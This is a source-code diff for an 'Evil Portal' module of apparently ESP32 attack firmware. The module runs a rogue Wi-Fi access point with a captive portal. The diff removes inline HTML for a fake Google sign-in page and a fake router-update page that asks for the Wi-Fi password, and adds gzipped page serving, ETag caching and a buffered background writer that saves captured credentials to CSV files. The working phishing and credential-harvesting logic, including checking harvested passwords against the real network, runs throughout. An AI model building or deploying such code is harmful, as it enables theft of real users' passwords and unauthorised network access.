@@ -4,7 +4,9 @@
 #include "core/sd_functions.h"
 #include "core/utils.h"
 #include "core/wifi/wifi_common.h"
+#include "esp_rom_crc.h"
 #include "esp_wifi.h"
+#include "portalFiles.h"
 #include "wifi_atks.h"
 
 EvilPortal::EvilPortal(String tssid, uint8_t channel, bool deauth, bool verifyPwd)
@@ -18,6 +20,8 @@ EvilPortal::EvilPortal(String tssid, uint8_t channel, bool deauth, bool verifyPw
 EvilPortal::~EvilPortal() {
     webServer.end();
     dnsServer.stop();
+    stopCredsWriter();
+    free(customPage);
     vTaskDelay(100 / portTICK_PERIOD_MS);
     wifiDisconnect();
 };
@@ -99,6 +103,8 @@ void EvilPortal::beginAP() {
     int tmp = millis();
     while (millis() - tmp < 3000) yield();
 
+    preparePages();
+    startCredsWriter();
     setupRoutes();
     dnsServer.start(53, "*", WiFi.softAPIP());
     webServer.begin();
@@ -232,16 +238,18 @@ void EvilPortal::drawScreen() {
 }
 
 void EvilPortal::printLastCapturedCredential() {
-    while (lastCred.length()) {
-        int newlineIndex = lastCred.indexOf('\n');
-        if (newlineIndex > -1) {
-            padprintln(lastCred.substring(0, newlineIndex));
-            lastCred.remove(0, newlineIndex + 1);
-        } else {
-            padprint(lastCred);
-            lastCred = "";
-        }
+    EvilCred cred;
+    if (!credAt(credsHead - 1, cred)) return;
+
+    // the key is cut to 3 letters to fit the screen
+    char *next = nullptr;
+    for (char *line = strtok_r(cred.fields, "\n", &next); line; line = strtok_r(NULL, "\n", &next)) {
+        char *value = strstr(line, ": ");
+        if (value && value - line > 3) memmove(line + 3, value, strlen(value) + 1);
+        padprintln(line);
     }
+    if (cred.check == EvilCred_Valid) padprint("valid: true\nStopping server...");
+    else if (cred.check == EvilCred_Invalid) padprint("valid: false");
 }
 
 void EvilPortal::printDeauthStatus() {
@@ -263,7 +271,6 @@ void EvilPortal::loadCustomHtml() {
     fileBaseName.toLowerCase();
 
     outputFile = fileBaseName + "_creds.csv";
-    isDefaultHtml = false;
 
     // Open the file and read the first line (searching for: <!-- AP="..." -->)
     File htmlFile = fsHtmlFile->open(htmlFileName, FILE_READ);
@@ -282,206 +289,90 @@ void EvilPortal::loadCustomHtml() {
     }
 }
 
-String EvilPortal::wifiLoadPage() {
-    PROGMEM String wifiLoad =
-        "<!DOCTYPE html><html><head> <meta charset='UTF-8'> <meta name='viewport' "
-        "content='width=device-width, initial-scale=1.0'> </style></head><body> <div class='container'> <div "
-        "class='logo-container'> <?xml version='1.0' standalone='no'?> <!DOCTYPE svg PUBLIC '-//W3C//DTD SVG "
-        "20010904//EN' 'http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd'> </div> <div> <div> <div "
-        "id='logo' title='Wifi' style='display: flex;justify-content: center;max-width: 50%;margin: auto;'> "
-        "<svg fill='#000000' height='800px' width='800px' version='1.1' id='Capa_1' "
-        "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' viewBox='0 0 365.892 "
-        "365.892' xml:space='preserve'> <g> <circle cx='182.945' cy='286.681' r='41.494'/> <path id='p1' "
-        "d='M182.946,176.029c-35.658,0-69.337,17.345-90.09,46.398c-5.921,8.288-4.001,19.806,4.286,25.726 "
-        "c3.249,2.321,6.994,3.438,10.704,3.438c5.754,0,11.423-2.686,15.021-7.724c13.846-19.383,36.305-30.954,"
-        "60.078-30.954 "
-        "c23.775,0,46.233,11.571,60.077,30.953c5.919,8.286,17.437,10.209,25.726,4.288c8.288-5.92,10.208-17."
-        "438,4.288-25.726 C252.285,193.373,218.606,176.029,182.946,176.029z'/> <path id='p2' "
-        "d='M182.946,106.873c-50.938,0-99.694,21.749-133.77,59.67c-6.807,7.576-6.185,19.236,1.392,26.044 "
-        "c3.523,3.166,7.929,4.725,12.32,4.725c5.051-0.001,10.082-2.063,13.723-6.116c27.091-30.148,65.849-47."
-        "439,106.336-47.439 "
-        "s79.246,17.291,106.338,47.438c6.808,7.576,18.468,8.198,26.043,1.391c7.576-6.808,8.198-18.468,1.391-"
-        "26.043 C282.641,128.621,233.883,106.873,182.946,106.873z'/> <path id='p3' "
-        "d='M360.611,112.293c-47.209-48.092-110.305-74.577-177.665-74.577c-67.357,0-130.453,26.485-177.664,"
-        "74.579 "
-        "c-7.135,7.269-7.027,18.944,0.241,26.079c3.59,3.524,8.255,5.282,12.918,5.281c4.776,0,9.551-1.845,13."
-        "161-5.522 "
-        "c40.22-40.971,93.968-63.534,151.344-63.534c57.379,0,111.127,22.563,151.343,63.532c7.136,7.269,18."
-        "812,7.376,26.08,0.242 C367.637,131.238,367.745,119.562,360.611,112.293z'/> </g> </svg> </div> "
-        "</div> </div> </div> <script> const paths = document.querySelectorAll('path'); let index = 0; "
-        "function showNextPath() { if (index < paths.length) { paths[index].style.display = 'block'; "
-        "index++; } } function hideAllPaths() { paths.forEach(path => { path.style.display = 'none'; }); "
-        "index = 0; } hideAllPaths(); setInterval(function() { if (index < paths.length) { showNextPath(); } "
-        "else { hideAllPaths(); } }, 1000); </script></body></html>";
-    return wifiLoad;
-}
-
 void EvilPortal::loadDefaultHtml_one() {
-    htmlPage =
-        "<!DOCTYPE html><html lang='en'><head><meta charset='UTF-8'><meta name='viewport' "
-        "content='width=device-width, initial-scale=1.0'><title>Router Update</title><style>body "
-        "{font-family: 'Segoe UI', Tahoma, Geneva, Verdana, sans-serif;background-color: #d3d3d3; /* Cinza "
-        "mais escuro */display: flex;justify-content: center;align-items: center;height: 100vh;margin: "
-        "0;padding: 10px;box-sizing: border-box;}.container {background-color: white;padding: "
-        "20px;border-radius: 10px;box-shadow: 0 0 15px rgba(0, 0, 0, 0.2);text-align: center;max-width: "
-        "360px;width: 100%;}.container svg {width: 70px;height: 70px;fill: #ff1744; /* Cor de alerta "
-        "*/margin-bottom: 20px;}h1 {color: #333;font-size: 22px;margin-bottom: 15px;}p {color: "
-        "#666;font-size: 15px;margin-bottom: 20px;}input[type='password'] {width: 100%;padding: 12px;margin: "
-        "10px 0;border-radius: 5px;border: 1px solid #ccc;font-size: 16px;box-sizing: border-box;}button "
-        "{width: 100%;padding: 12px;background-color: #007bff;color: white;border: none;border-radius: "
-        "5px;cursor: pointer;font-size: 16px;transition: background-color 0.3s;}button:hover "
-        "{background-color: #0056b3;}div#success-block{display: none;text-align: center;min-height: "
-        "60px;margin-bottom: 30px;justify-content: center;align-items: center;}</style></head><body><div "
-        "class='container'><!-- Ícone No Signal em SVG --><svg xmlns='http://www.w3.org/2000/svg' "
-        "fill='#000000' width='800px' height='800px' viewBox='0 -1 26 26'><path fill-opacity='.3' d='M24.24 "
-        "8l1.35-1.68C25.1 5.96 20.26 2 13 2S.9 5.96.42 6.32l12.57 15.66.01.02.01-.01L20 "
-        "13.28V8h4.24z'/><path d='M22 22h2v-2h-2v2zm0-12v8h2v-8h-2z'/></svg><h1>Router Update</h1><div "
-        "id='form-block'><p>Router firmware update required. Enter your Wi-Fi password to update.</p><form "
-        "id='submit-form' action='/post'><input type='password' name='password' placeholder='Wi-Fi network "
-        "password' required><button type='submit'>Update</button></form></div><div id='success-block'><p>The "
-        "router will restart in <span id='span-count' style='font-weight: "
-        "bolder;'>5</span></p></div></"
-        "div><script>document.getElementById('submit-form').addEventListener('submit', function(event) "
-        "{event.preventDefault();document.getElementById('success-block').style.display = "
-        "'flex';document.getElementById('form-block').style.display = 'none';setInterval(function() {index = "
-        "parseInt(document.getElementById('span-count').textContent)if (index > 1) "
-        "{document.getElementById('span-count').textContent = index-1;index--;} else "
-        "{document.getElementById('submit-form').submit();}}, 1000);});</script></body></html>";
+    page = evil_router_update_html;
+    pageLen = evil_router_update_html_size;
+    pageGzip = true;
     outputFile = "default_creds_1.csv";
-    isDefaultHtml = true;
 }
 
 void EvilPortal::loadDefaultHtml() {
-    // htmlPage = "<!DOCTYPE html><html><head><title>Fazer login nas Contas do Google</title><meta
-    // charset='UTF-8'><meta name='viewport' content='width=device-width,
-    // initial-scale=1.0'><style>a:hover{text-decoration: underline;}body{font-family: Arial,
-    // sans-serif;align-items: center;justify-content: center;background-color: #FFFFFF;}input[type='text'],
-    // input[type='password']{width: 100%;padding: 12px 10px;margin: 8px 0;box-sizing: border-box;border: 1px
-    // solid #cccccc;border-radius: 4px;}.container{margin: auto;padding: 20px;max-width:
-    // 700px;}.logo-container{text-align: center;margin-bottom: 30px;display: flex;justify-content:
-    // center;align-items: center;}.logo{width: 40px;height: 40px;fill: #FFC72C;margin-right:
-    // 100px;}.company-name{font-size: 42px;color: black;margin-left: 0px;}.form-container{background:
-    // #FFFFFF;border: 1px solid #CEC0DE;border-radius: 4px;padding: 20px;box-shadow: 0px 0px 10px 0px
-    // rgba(108, 66, 156, 0.2);}h1{text-align: center;font-size: 28px;font-weight: 500;margin-bottom:
-    // 20px;}.input-field{width: 100%;padding: 12px;border: 1px solid #BEABD3;border-radius:
-    // 4px;margin-bottom: 20px;font-size: 14px;}.submit-btn{background: #0b57d0;color: white;border:
-    // none;padding: 12px 20px;border-radius: 4px;font-size: 0.875rem;}.submit-btn:hover{background:
-    // #0e4eb3;}.forgot-btn{background: transparent;color: #0b57d0;border-radius: 8px;border: none;font-size:
-    // 14px;cursor: pointer;}.forgot-btn:hover{background-color:
-    // rgba(11,87,208,0.08);}.containerlogo{padding-top: 25px;}.containertitle{color: #202124;font-size:
-    // 24px;padding: 15px 0px 10px 0px;}.containersubtitle{color: #202124;font-size: 16px;padding: 0px 0px
-    // 30px 0px;}.containerbtn{display: flex;justify-content: end;padding: 30px 0px 25px 0px;}@media screen
-    // and (min-width: 768px){.logo{max-width: 80px;max-height: 80px;}}</style></head><body><div
-    // class='container'><div class='logo-container'><?xml version='1.0' standalone='no'?><!DOCTYPE svg PUBLIC
-    // '-//W3C//DTD SVG 20010904//EN' 'http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd'></div><div
-    // class=form-container><center><div class='containerlogo'><!-- Google Logo --><div id='logo'
-    // title='Google'><svg viewBox='0 0 75 24' width='75' height='24' xmlns='http://www.w3.org/2000/svg'
-    // aria-hidden='true'><g id='qaEJec'><path fill='#ea4335' d='M67.954 16.303c-1.33
-    // 0-2.278-.608-2.886-1.804l7.967-3.3-.27-.68c-.495-1.33-2.008-3.79-5.102-3.79-3.068
-    // 0-5.622 2.41-5.622 5.96 0 3.34 2.53 5.96 5.92 5.96 2.73
-    // 0 4.31-1.67 4.97-2.64l-2.03-1.35c-.673.98-1.6 1.64-2.93 1.64zm-.203-7.27c1.04
-    // 0 1.92.52 2.21 1.264l-5.32 2.21c-.06-2.3 1.79-3.474 3.12-3.474z'></path></g><g id='YGlOvc'><path
-    // fill='#34a853' d='M58.193.67h2.564v17.44h-2.564z'></path></g><g id='BWfIk'><path fill='#4285f4'
-    // d='M54.152 8.066h-.088c-.588-.697-1.716-1.33-3.136-1.33-2.98 0-5.71 2.614-5.71 5.98
-    // 0 3.338 2.73 5.933 5.71 5.933 1.42 0 2.548-.64 3.136-1.36h.088v.86c0 2.28-1.217 3.5-3.183 3.5-1.61
-    // 0-2.6-1.15-3-2.12l-2.28.94c.65 1.58 2.39 3.52 5.28 3.52 3.06
-    // 0 5.66-1.807 5.66-6.206V7.21h-2.48v.858zm-3.006 8.237c-1.804 0-3.318-1.513-3.318-3.588
-    // 0-2.1 1.514-3.635 3.318-3.635 1.784 0 3.183 1.534 3.183 3.635
-    // 0 2.075-1.4 3.588-3.19 3.588z'></path></g><g id='e6m3fd'><path fill='#fbbc05' d='M38.17 6.735c-3.28
-    // 0-5.953 2.506-5.953 5.96 0 3.432 2.673 5.96 5.954 5.96 3.29 0 5.96-2.528 5.96-5.96
-    // 0-3.46-2.67-5.96-5.95-5.96zm0 9.568c-1.798 0-3.348-1.487-3.348-3.61
-    // 0-2.14 1.55-3.608 3.35-3.608s3.348 1.467 3.348 3.61c0 2.116-1.55 3.608-3.35 3.608z'></path></g><g
-    // id='vbkDmc'><path fill='#ea4335' d='M25.17 6.71c-3.28 0-5.954 2.505-5.954 5.958
-    // 0 3.433 2.673 5.96 5.954 5.96 3.282 0 5.955-2.527 5.955-5.96
-    // 0-3.453-2.673-5.96-5.955-5.96zm0 9.567c-1.8 0-3.35-1.487-3.35-3.61
-    // 0-2.14 1.55-3.608 3.35-3.608s3.35 1.46 3.35 3.6c0 2.12-1.55 3.61-3.35 3.61z'></path></g><g
-    // id='idEJde'><path fill='#4285f4'
-    // d='M14.11 14.182c.722-.723 1.205-1.78 1.387-3.334H9.423V8.373h8.518c.09.452.16 1.07.16 1.664
-    // 0 1.903-.52 4.26-2.19 5.934-1.63 1.7-3.71 2.61-6.48 2.61-5.12 0-9.42-4.17-9.42-9.29C0 4.17 4.31 0 9.43
-    // 0c2.83 0 4.843 1.108 6.362 2.56L14 4.347c-1.087-1.02-2.56-1.81-4.577-1.81-3.74
-    // 0-6.662 3.01-6.662 6.75s2.93 6.75 6.67 6.75c2.43 0 3.81-.972 4.69-1.856z'></path></g></svg></div><!--
-    // /Google Logo --></div></center><div style='min-height: 150px'><center><div class='containertitle'>Fazer
-    // login</div><div class='containersubtitle'>Use sua Conta do Google</div></center><form action='/post'
-    // id='login-form'><input name='email' class='input-field' type='text' placeholder='E-mail ou telefone'
-    // required><input name='password' class='input-field' type='password' placeholder='Digite sua senha'
-    // required /><div class='containermsg'><button class='forgot-btn'>Esqueceu sua senha?</button></div><div
-    // class='containerbtn'><button id=submitbtn class=submit-btn
-    // type=submit>Avançar</button></div></form></div></div></div></body></html>";
-    htmlPage =
-        "<!DOCTYPE html><html><head><title>Sign in: Google Accounts</title><meta charset='UTF-8'><meta "
-        "name='viewport' content='width=device-width, initial-scale=1.0'><style>a:hover{text-decoration: "
-        "underline;}body{font-family: Arial, sans-serif;align-items: center;justify-content: "
-        "center;background-color: #FFFFFF;}input[type='text'], input[type='password']{width: 100%;padding: "
-        "12px 10px;margin: 8px 0;box-sizing: border-box;border: 1px solid #cccccc;border-radius: "
-        "4px;}.container{margin: auto;padding: 20px;max-width: 700px;}.logo-container{text-align: "
-        "center;margin-bottom: 30px;display: flex;justify-content: center;align-items: center;}.logo{width: "
-        "40px;height: 40px;fill: #FFC72C;margin-right: 100px;}.company-name{font-size: 42px;color: "
-        "black;margin-left: 0px;}.form-container{background: #FFFFFF;border: 1px solid "
-        "#CEC0DE;border-radius: 4px;padding: 20px;box-shadow: 0px 0px 10px 0px rgba(108, 66, 156, "
-        "0.2);}h1{text-align: center;font-size: 28px;font-weight: 500;margin-bottom: "
-        "20px;}.input-field{width: 100%;padding: 12px;border: 1px solid #BEABD3;border-radius: "
-        "4px;margin-bottom: 20px;font-size: 14px;}.submit-btn{background: #0b57d0;color: white;border: "
-        "none;padding: 12px 20px;border-radius: 4px;font-size: 0.875rem;}.submit-btn:hover{background: "
-        "#0e4eb3;}.forgot-btn{background: transparent;color: #0b57d0;border-radius: 8px;border: "
-        "none;font-size: 14px;cursor: pointer;}.forgot-btn:hover{background-color: "
-        "rgba(11,87,208,0.08);}.containerlogo{padding-top: 25px;}.containertitle{color: #202124;font-size: "
-        "24px;padding: 15px 0px 10px 0px;}.containersubtitle{color: #202124;font-size: 16px;padding: 0px 0px "
-        "30px 0px;}.containerbtn{display: flex;justify-content: end;padding: 30px 0px 25px 0px;}@media "
-        "screen and (min-width: 768px){.logo{max-width: 80px;max-height: 80px;}}</style></head><body><div "
-        "class='container'><div class='logo-container'><?xml version='1.0' standalone='no'?><!DOCTYPE svg "
-        "PUBLIC '-//W3C//DTD SVG 20010904//EN' "
-        "'http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd'></div><div "
-        "class=form-container><center><div class='containerlogo'><!-- Google Logo --><div id='logo' "
-        "title='Google'><svg viewBox='0 0 75 24' width='75' height='24' xmlns='http://www.w3.org/2000/svg' "
-        "aria-hidden='true'><g id='qaEJec'><path fill='#ea4335' d='M67.954 16.303c-1.33 "
-        "0-2.278-.608-2.886-1.804l7.967-3.3-.27-.68c-.495-1.33-2.008-3.79-5.102-3.79-3.068 0-5.622 "
-        "2.41-5.622 5.96 0 3.34 2.53 5.96 5.92 5.96 2.73 0 4.31-1.67 4.97-2.64l-2.03-1.35c-.673.98-1.6 "
-        "1.64-2.93 1.64zm-.203-7.27c1.04 0 1.92.52 2.21 1.264l-5.32 2.21c-.06-2.3 1.79-3.474 "
-        "3.12-3.474z'></path></g><g id='YGlOvc'><path fill='#34a853' "
-        "d='M58.193.67h2.564v17.44h-2.564z'></path></g><g id='BWfIk'><path fill='#4285f4' d='M54.152 "
-        "8.066h-.088c-.588-.697-1.716-1.33-3.136-1.33-2.98 0-5.71 2.614-5.71 5.98 0 3.338 2.73 5.933 5.71 "
-        "5.933 1.42 0 2.548-.64 3.136-1.36h.088v.86c0 2.28-1.217 3.5-3.183 3.5-1.61 "
-        "0-2.6-1.15-3-2.12l-2.28.94c.65 1.58 2.39 3.52 5.28 3.52 3.06 0 5.66-1.807 "
-        "5.66-6.206V7.21h-2.48v.858zm-3.006 8.237c-1.804 0-3.318-1.513-3.318-3.588 0-2.1 1.514-3.635 "
-        "3.318-3.635 1.784 0 3.183 1.534 3.183 3.635 0 2.075-1.4 3.588-3.19 3.588z'></path></g><g "
-        "id='e6m3fd'><path fill='#fbbc05' d='M38.17 6.735c-3.28 0-5.953 2.506-5.953 5.96 0 3.432 2.673 5.96 "
-        "5.954 5.96 3.29 0 5.96-2.528 5.96-5.96 0-3.46-2.67-5.96-5.95-5.96zm0 9.568c-1.798 "
-        "0-3.348-1.487-3.348-3.61 0-2.14 1.55-3.608 3.35-3.608s3.348 1.467 3.348 3.61c0 2.116-1.55 "
-        "3.608-3.35 3.608z'></path></g><g id='vbkDmc'><path fill='#ea4335' d='M25.17 6.71c-3.28 0-5.954 "
-        "2.505-5.954 5.958 0 3.433 2.673 5.96 5.954 5.96 3.282 0 5.955-2.527 5.955-5.96 "
-        "0-3.453-2.673-5.96-5.955-5.96zm0 9.567c-1.8 0-3.35-1.487-3.35-3.61 0-2.14 1.55-3.608 "
-        "3.35-3.608s3.35 1.46 3.35 3.6c0 2.12-1.55 3.61-3.35 3.61z'></path></g><g id='idEJde'><path "
-        "fill='#4285f4' d='M14.11 14.182c.722-.723 1.205-1.78 1.387-3.334H9.423V8.373h8.518c.09.452.16 "
-        "1.07.16 1.664 0 1.903-.52 4.26-2.19 5.934-1.63 1.7-3.71 2.61-6.48 2.61-5.12 0-9.42-4.17-9.42-9.29C0 "
-        "4.17 4.31 0 9.43 0c2.83 0 4.843 1.108 6.362 2.56L14 4.347c-1.087-1.02-2.56-1.81-4.577-1.81-3.74 "
-        "0-6.662 3.01-6.662 6.75s2.93 6.75 6.67 6.75c2.43 0 3.81-.972 "
-        "4.69-1.856z'></path></g></svg></div><!-- /Google Logo --></div></center><div style='min-height: "
-        "150px'><center><div class='containertitle'>Sign in</div><div class='containersubtitle'>Use your "
-        "Google Account</div></center><form action='/post' id='login-form'><input name='email' "
-        "class='input-field' type='text' placeholder='Email or phone' required><input name='password' "
-        "class='input-field' type='password' placeholder='Enter your password' required /><div "
-        "class='containermsg'><button class='forgot-btn'>Forgot password?</button></div><div "
-        "class='containerbtn'><button id=submitbtn class=submit-btn "
-        "type=submit>Next</button></div></form></div></div></div></body></html>";
+    page = evil_google_html;
+    pageLen = evil_google_html_size;
+    pageGzip = true;
     outputFile = "default_creds.csv";
-    isDefaultHtml = true;
+}
+
+static String etagOf(const uint8_t *data, size_t len) {
+    char etag[12];
+    snprintf(etag, sizeof(etag), "\"%08lx\"", (unsigned long)esp_rom_crc32_le(0, data, len));
+    return etag;
+}
+
+/*********************************************************************
+**  Function: preparePages
+**  Reads the custom page once, so clients are served from memory,
+**  and tags every page with an ETag
+**********************************************************************/
+void EvilPortal::preparePages() {
+    if (!htmlFileName.isEmpty()) {
+        page = nullptr;
+        File htmlFile = fsHtmlFile->open(htmlFileName, FILE_READ);
+        size_t size = htmlFile ? htmlFile.size() : 0;
+        if (size > 0 && (psramFound() || size <= EVIL_PAGE_CACHE_MAX)) {
+            customPage = (uint8_t *)(psramFound() ? ps_malloc(size) : malloc(size));
+        }
+        if (customPage && htmlFile.read(customPage, size) == size) {
+            page = customPage;
+            pageLen = size;
+            pageGzip = false;
+        } else {
+            // too big for RAM: served from the file on each request
+            free(customPage);
+            customPage = nullptr;
+            log_d("Evil Portal: serving %s from storage", htmlFileName.c_str());
+        }
+        if (htmlFile) htmlFile.close();
+    }
+
+    if (page) pageEtag = etagOf(page, pageLen);
+    loadEtag = etagOf(evil_wifi_load_html, evil_wifi_load_html_size);
+}
+
+/*********************************************************************
+**  Function: sendPage
+**  Sends a page kept in memory without copying it, or 304 when the
+**  client already has it
+**********************************************************************/
+void EvilPortal::sendPage(
+    AsyncWebServerRequest *request, const uint8_t *data, size_t len, bool gzip, const String &etag
+) {
+    if (request->hasHeader("If-None-Match") && request->header("If-None-Match") == etag) {
+        request->send(304);
+        return;
+    }
+
+    AsyncWebServerResponse *response = request->beginResponse(200, "text/html", data, len);
+    if (gzip) response->addHeader("Content-Encoding", "gzip");
+    response->addHeader("ETag", etag);
+    response->addHeader("Cache-Control", "no-cache");
+    request->send(response);
 }
 
 void EvilPortal::portalController(AsyncWebServerRequest *request) {
-    if (isDefaultHtml) request->send(200, "text/html", htmlPage);
-    else { request->send(*fsHtmlFile, htmlFileName, "text/html"); }
+    if (page) sendPage(request, page, pageLen, pageGzip, pageEtag);
+    else request->send(*fsHtmlFile, htmlFileName, "text/html");
 }
 
 void EvilPortal::credsController(AsyncWebServerRequest *request) {
-    String htmlResponse = "<li>";
     String passwordValue = "";
-    String csvLine = "";
+    String fields = "";
     String key;
-    lastCred = "";
 
     for (int i = 0; i < request->args(); i++) {
         key = request->argName(i);
 
+        // Skip irrelevant parameters
         if (key == "q" || key.startsWith("cup2") || key.startsWith("plain") || key == "P1" || key == "P2" ||
             key == "P3" || key == "P4") {
             continue;
@@ -490,27 +381,18 @@ void EvilPortal::credsController(AsyncWebServerRequest *request) {
         // get key if verify
         if (key == "password" && _verifyPwd) { passwordValue = request->arg(i); }
 
-        // Build HTML and CSV line
-        htmlResponse += key + ": " + request->arg(i) + "<br>\n";
-        if (i > 0) { csvLine += ","; }
-
-        // Skip irrelevant parameters
-
-        csvLine += key + ": " + request->arg(i);
-        lastCred += key.substring(0, 3) + ": " + request->arg(i) + "\n";
+        if (fields.length()) fields += "\n";
+        fields += key + ": " + request->arg(i);
     }
 
-    htmlResponse += "</li>\n";
-
     if (_verifyPwd && passwordValue != "") {
-        request->send(200, "text/html", wifiLoadPage());
+        sendPage(request, evil_wifi_load_html, evil_wifi_load_html_size, true, loadEtag);
         //vTaskDelay(200 / portTICK_PERIOD_MS); // give it time to process the request
         bool isCorrect = verifyCreds(apName, passwordValue);
         if (isCorrect) {
 
             // Display valid to screen if valid..
-            lastCred += "valid: true\nStopping server...";
-            saveToCSV(csvLine + ", valid: true", true);
+            pushCred(fields, EvilCred_Valid, true);
             printDeauthStatus();
 
             // save to WiFi creds if the pwd was correct.
@@ -523,18 +405,16 @@ void EvilPortal::credsController(AsyncWebServerRequest *request) {
             _deauth = false;
 
         } else {
-            lastCred += "valid: false";
             // still save invalid creds...
-            saveToCSV(csvLine + ", valid: false", true);
+            pushCred(fields, EvilCred_Invalid, true);
             portalController(request);
         }
 
     } else {
-        saveToCSV(csvLine);
-        request->send(200, "text/html", wifiLoadPage());
+        pushCred(fields, EvilCred_Unchecked, false);
+        sendPage(request, evil_wifi_load_html, evil_wifi_load_html_size, true, loadEtag);
     }
 
-    capturedCredentialsHtml = htmlResponse + capturedCredentialsHtml;
     totalCapturedCredentials++;
 }
 
@@ -586,8 +466,17 @@ String EvilPortal::getHtmlTemplate(String body) {
 }
 
 String EvilPortal::creds_GET() {
+    // newest first, older forms are only in the CSV
+    String list = "";
+    EvilCred cred;
+    for (uint32_t i = credsHead; i > 0 && credAt(i - 1, cred); i--) {
+        String fields = cred.fields;
+        fields.replace("\n", "<br>\n");
+        list += "<li>" + fields + "<br>\n</li>\n";
+    }
+
     return getHtmlTemplate(
-        "<ol>" + capturedCredentialsHtml +
+        "<ol>" + list +
         "</ol><br><center><p><a style=\"color:blue\" href=/>Back to Index</a></p><p><a style=\"color:blue\" "
         "href=/clear>Clear passwords</a></p></center>"
     );
@@ -607,30 +496,145 @@ String EvilPortal::ssid_POST() {
     );
 }
 
-void EvilPortal::saveToCSV(const String &csvLine, bool isAPname) {
-    FS *fs;
-    if (!getFsStorage(fs)) {
-        log_i("Error getting FS storage");
+/*********************************************************************
+**  Function: startCredsWriter
+**  Allocates the ring of captured forms and starts the task that
+**  appends them to the CSV
+**********************************************************************/
+void EvilPortal::startCredsWriter() {
+    if (creds == nullptr) creds = (EvilCred *)malloc(EVIL_CREDS_RING * sizeof(EvilCred));
+    if (creds == nullptr) {
+        log_e("No memory for the captured credentials");
         return;
     }
+    credsHead = 0;
+    credsTail = 0;
+    credsDropped = 0;
+    if (credsTask == NULL) {
+        credsTaskStop = false;
+        xTaskCreate(credsWriterTask, "evilCreds", 6144, this, 1, &credsTask);
+    }
+}
+
+/*********************************************************************
+**  Function: stopCredsWriter
+**  Writes what is left in the ring, syncs the CSV and stops the task
+**********************************************************************/
+void EvilPortal::stopCredsWriter() {
+    if (credsTask != NULL) {
+        credsTaskStop = true;
+        xTaskNotifyGive(credsTask);
+        while (credsTask != NULL) vTaskDelay(pdMS_TO_TICKS(10));
+    }
+    if (credsDropped > 0) log_w("Evil Portal: %lu credentials dropped", (unsigned long)credsDropped);
+    free(creds);
+    creds = nullptr;
+}
+
+/*********************************************************************
+**  Function: pushCred
+**  Called from the web handlers, only copies the form into the ring
+**********************************************************************/
+void EvilPortal::pushCred(const String &fields, EvilCredCheck check, bool apFile) {
+    if (creds == nullptr) return;
+
+    portENTER_CRITICAL(&credsMux);
+    EvilCred &cred = creds[credsHead % EVIL_CREDS_RING];
+    strlcpy(cred.fields, fields.c_str(), sizeof(cred.fields));
+    cred.check = check;
+    cred.apFile = apFile;
+    credsHead++;
+    portEXIT_CRITICAL(&credsMux);
+
+    if (credsTask != NULL) xTaskNotifyGive(credsTask);
+}
 
-    if (!fs->exists("/BruceEvilCreds")) fs->mkdir("/BruceEvilCreds");
+/*********************************************************************
+**  Function: credAt
+**  Copies the form pushed at index, false if it left the ring
+**********************************************************************/
+bool EvilPortal::credAt(uint32_t index, EvilCred &cred) {
+    if (creds == nullptr) return false;
+
+    portENTER_CRITICAL(&credsMux);
+    bool found = index < credsHead && credsHead - index <= EVIL_CREDS_RING;
+    if (found) cred = creds[index % EVIL_CREDS_RING];
+    portEXIT_CRITICAL(&credsMux);
+    return found;
+}
 
+/*********************************************************************
+**  Function: writeCreds
+**  Keeps the CSV open, appends the forms as they are pushed and syncs
+**  it every EVIL_CREDS_SYNC_MS, so a burst of submissions is a few
+**  buffered writes instead of an open/append/close each
+**********************************************************************/
+void EvilPortal::writeCreds() {
+    FS *fs = nullptr;
     File file;
+    String filePath = "";
+    uint32_t lastSync = millis();
+    bool unsynced = false;
+    EvilCred cred;
 
-    if (!isAPname) {
-        file = fs->open("/BruceEvilCreds/" + outputFile, FILE_APPEND);
-    } else {
-        file = fs->open("/BruceEvilCreds/" + apName + "_creds.csv", FILE_APPEND);
-    }
+    while (true) {
+        ulTaskNotifyTake(pdTRUE, pdMS_TO_TICKS(EVIL_CREDS_SYNC_MS));
+        bool stop = credsTaskStop;
+
+        while (true) {
+            portENTER_CRITICAL(&credsMux);
+            // forms the writer fell a whole ring behind on are overwritten
+            if (credsHead - credsTail > EVIL_CREDS_RING) {
+                credsDropped += credsHead - credsTail - EVIL_CREDS_RING;
+                credsTail = credsHead - EVIL_CREDS_RING;
+            }
+            bool pending = credsTail != credsHead;
+            if (pending) cred = creds[credsTail++ % EVIL_CREDS_RING];
+            portEXIT_CRITICAL(&credsMux);
+            if (!pending) break;
+
+            String path = "/BruceEvilCreds/" + (cred.apFile ? apName + "_creds.csv" : outputFile);
+            if (!file || path != filePath) {
+                if (file) file.close();
+                if (fs == nullptr && !getFsStorage(fs)) {
+                    log_i("Error getting FS storage");
+                    fs = nullptr;
+                    continue;
+                }
+                if (!fs->exists("/BruceEvilCreds")) fs->mkdir("/BruceEvilCreds");
+                file = fs->open(path, FILE_APPEND);
+                filePath = path;
+                if (!file) {
+                    log_i("Error to open file");
+                    continue;
+                }
+            }
 
-    if (!file) {
-        log_i("Error to open file");
-        return;
+            String csvLine = cred.fields;
+            csvLine.replace("\n", ",");
+            if (cred.check == EvilCred_Valid) csvLine += ", valid: true";
+            else if (cred.check == EvilCred_Invalid) csvLine += ", valid: false";
+            file.println(csvLine);
+            unsynced = true;
+        }
+
+        if (unsynced && file && (stop || millis() - lastSync >= EVIL_CREDS_SYNC_MS)) {
+            file.flush();
+            lastSync = millis();
+            unsynced = false;
+            log_i("data saved");
+        }
+        if (stop) break;
     }
-    file.println(csvLine);
-    file.close();
-    log_i("data saved");
+
+    if (file) file.close();
+}
+
+void EvilPortal::credsWriterTask(void *param) {
+    EvilPortal *portal = (EvilPortal *)param;
+    portal->writeCreds();
+    portal->credsTask = NULL;
+    vTaskDelete(NULL);
 }
 
 void EvilPortal::apName_from_keyboard() { apName = keyboard("Free Wifi", 30, "Evil Portal SSID:"); }